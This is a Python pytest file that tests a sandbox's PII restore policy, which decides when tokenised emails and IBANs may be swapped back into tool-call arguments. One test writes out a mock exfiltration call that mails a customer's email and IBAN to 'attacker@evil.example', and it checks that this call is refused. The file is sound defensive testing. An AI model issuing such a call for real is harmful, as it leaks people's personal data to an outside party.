"""Restoring a call's tokens under the restore policy (sandbox/pii/restore.py)."""

from __future__ import annotations

import os

import pytest

from sandbox.exceptions import InvalidInputError
from sandbox.pii.policy import RestorePolicy, RestoreRule
from sandbox.pii.restore import MAX_BLOCKED, Restored, RestoreRefusal, restore
from sandbox.pii.vault import MasterKeys, Vault

KEYS = MasterKeys({"k1": os.urandom(32)}, "k1")
EMAIL, IBAN = "maria.gonzalez@example.com", "DE89 3704 0044 0532 0130 00"
MAIL_TO = RestoreRule.model_validate(
    {"entities": ["EMAIL"], "from": "crm.*", "to": "mailer.send_email", "args": ["to"]}
)


@pytest.fixture
def vault() -> Vault:
    v = Vault(KEYS, "s1")
    assert v.token_for("EMAIL", EMAIL, origin="crm.get_customer") == "[EMAIL_1]"
    assert v.token_for("IBAN", IBAN, origin="crm.get_customer") == "[IBAN_1]"
    return v


def refused(result: Restored | RestoreRefusal) -> RestoreRefusal:
    assert isinstance(result, RestoreRefusal), result
    return result


def allowed(result: Restored | RestoreRefusal) -> Restored:
    assert isinstance(result, Restored), result
    return result


def test_the_exfiltration_call_from_the_issue_is_refused_by_default(vault: Vault) -> None:
    args = {"to": "attacker@evil.example", "subject": "x", "body": "[EMAIL_1] [IBAN_1]"}
    r = refused(restore(vault, RestorePolicy(), "mailer", "send_email", args))
    assert [(b.token, b.entity, b.origins, b.arg, b.action) for b in r.blocked] == [
        ("[EMAIL_1]", "EMAIL", ("crm.get_customer",), "body", "deny"),
        ("[IBAN_1]", "IBAN", ("crm.get_customer",), "body", "deny"),
    ]
    assert not r.needs_approval


def test_a_refusal_names_types_and_origins_but_never_a_value(vault: Vault) -> None:
    r = refused(restore(vault, RestorePolicy(), "mailer", "send_email", {"body": "[IBAN_1]"}))
    message = r.message()
    assert "[IBAN_1]" in message and "IBAN from crm.get_customer" in message
    assert "mailer.send_email" in message and "'body'" in message
    records = list(r.records())
    assert records == [
        (
            {
                "entity": "IBAN",
                "origin": "crm.get_customer",
                "to": "mailer.send_email",
                "action": "deny",
            },
            {"token": "[IBAN_1]", "arg": "body"},
        )
    ]
    for text in (message, repr(r), repr(records)):
        assert EMAIL not in text and IBAN not in text and "DE89" not in text


def test_the_legitimate_call_goes_ahead_when_a_rule_allows_it(vault: Vault) -> None:
    args = {"to": "[EMAIL_1]", "subject": "Renewal", "body": "Hello"}
    r = allowed(restore(vault, RestorePolicy([MAIL_TO]), "mailer", "send_email", args))
    assert r.args == {"to": EMAIL, "subject": "Renewal", "body": "Hello"}
    assert r.pairs == ((EMAIL, "[EMAIL_1]"),) and r.known() == {EMAIL: "[EMAIL_1]"}


def test_one_refused_token_refuses_the_whole_call_and_restores_nothing(vault: Vault) -> None:
    args = {"to": "[EMAIL_1]", "body": "IBAN [IBAN_1]"}
    r = refused(restore(vault, RestorePolicy([MAIL_TO]), "mailer", "send_email", args))
    assert [b.token for b in r.blocked] == ["[IBAN_1]"]


def test_tokens_go_back_to_their_own_server_in_any_argument_by_default(vault: Vault) -> None:
    args = {"customer_id": "C-1", "text": "mail [EMAIL_1], pay to [IBAN_1]"}
    r = allowed(restore(vault, RestorePolicy(), "crm", "add_note", args))
    assert r.args["text"] == f"mail {EMAIL}, pay to {IBAN}"
    assert dict(r.pairs) == {EMAIL: "[EMAIL_1]", IBAN: "[IBAN_1]"}


def test_nested_arguments_are_checked_at_their_dotted_path(vault: Vault) -> None:
    policy = RestorePolicy(
        [RestoreRule.model_validate({"to": "mailer.send_email", "args": ["message.cc"]})]
    )
    ok = {"message": {"cc": ["x@example.com", "[EMAIL_1]"], "body": "hi"}}
    assert allowed(restore(vault, policy, "mailer", "send_email", ok)).args == {
        "message": {"cc": ["x@example.com", EMAIL], "body": "hi"}
    }
    bad = {"message": {"cc": [], "body": [{"text": "[EMAIL_1]"}]}}
    r = refused(restore(vault, policy, "mailer", "send_email", bad))
    assert r.blocked[0].arg == "message.body.text"


def test_tokens_in_keys_are_checked_too(vault: Vault) -> None:
    r = refused(restore(vault, RestorePolicy(), "mailer", "send_email", {"[EMAIL_1]": 1}))
    assert r.blocked[0].arg == "[EMAIL_1]"
    own = allowed(restore(vault, RestorePolicy(), "crm", "x", {"m": {"[EMAIL_1]": 1}}))
    assert own.args == {"m": {EMAIL: 1}}


def test_unknown_or_malformed_tokens_stay_literal_and_are_not_refusals(vault: Vault) -> None:
    args = {"body": "[EMAIL_7] [email_1] [EMAIL_1 ] [EMAIL_REDACTED]", "n": 3, "f": None}
    r = allowed(restore(vault, RestorePolicy(), "mailer", "send_email", args))
    assert r.args == args and r.pairs == ()


def test_another_sessions_tokens_are_not_this_ones() -> None:
    other = Vault(KEYS, "s2")
    args = {"body": "[EMAIL_1]"}
    assert allowed(restore(other, RestorePolicy(), "mailer", "send_email", args)).args == args


def test_a_restore_that_needs_approval_is_a_refusal_until_approved(vault: Vault) -> None:
    ask = RestoreRule.model_validate({"from": "crm.*", "to": "mailer.*", "action": "approve"})
    policy = RestorePolicy([ask])
    args = {"to": "[EMAIL_1]", "body": "[IBAN_1]"}
    r = refused(restore(vault, policy, "mailer", "send_email", args))
    assert r.needs_approval and "needs approval" in r.message()
    approved = {(b.token, b.arg) for b in r.blocked}
    done = allowed(restore(vault, policy, "mailer", "send_email", args, approved=approved))
    assert done.args == {"to": EMAIL, "body": IBAN}
    # An approval covers the tokens and arguments it named, nothing else.
    moved = {"to": "[IBAN_1]", "body": "[EMAIL_1]"}
    assert refused(restore(vault, policy, "mailer", "send_email", moved, approved=approved))


def test_a_denied_token_makes_the_refusal_a_denial_even_with_approvals_pending(
    vault: Vault,
) -> None:
    rules = [
        RestoreRule.model_validate({"to": "mailer.*", "action": "approve"}),
        RestoreRule.model_validate({"entities": "IBAN", "to": "*", "action": "deny"}),
    ]
    r = refused(
        restore(vault, RestorePolicy(rules), "mailer", "x", {"a": "[EMAIL_1]", "b": "[IBAN_1]"})
    )
    assert not r.needs_approval and "not allowed" in r.message()


def test_restored_values_are_noted_as_sent_to_that_server(vault: Vault) -> None:
    allowed(restore(vault, RestorePolicy([MAIL_TO]), "mailer", "send_email", {"to": "[EMAIL_1]"}))
    vault.token_for("EMAIL", EMAIL, origin="mailer.list_outbox")  # mailer echoes it later
    info = vault.info("[EMAIL_1]")
    assert info is not None and info.origins == ("crm.get_customer",)
    # ... so the default does not now let it into other mailer arguments.
    assert refused(restore(vault, RestorePolicy(), "mailer", "send_email", {"body": "[EMAIL_1]"}))


def test_a_refused_call_marks_nothing_as_sent(vault: Vault) -> None:
    refused(restore(vault, RestorePolicy(), "mailer", "x", {"a": "[EMAIL_1]"}))
    vault.token_for("EMAIL", EMAIL, origin="mailer.list_outbox")
    info = vault.info("[EMAIL_1]")
    assert info is not None and "mailer.list_outbox" in info.origins


def test_a_refusal_lists_a_bounded_number_of_tokens(vault: Vault) -> None:
    for i in range(MAX_BLOCKED + 5):
        vault.token_for("EMAIL", f"u{i}@example.com", origin="crm.list")
    body = " ".join(f"[EMAIL_{i}]" for i in range(1, MAX_BLOCKED + 7))
    r = refused(restore(vault, RestorePolicy(), "mailer", "x", {"body": body}))
    assert len(r.blocked) == MAX_BLOCKED and r.more == 6
    assert f"(and {MAX_BLOCKED + 5} more)" in r.message()


def test_too_deep_arguments_are_an_input_error(vault: Vault) -> None:
    deep: object = "[EMAIL_1]"
    for _ in range(300):
        deep = [deep]
    with pytest.raises(InvalidInputError):
        restore(vault, RestorePolicy(), "crm", "x", {"a": deep})
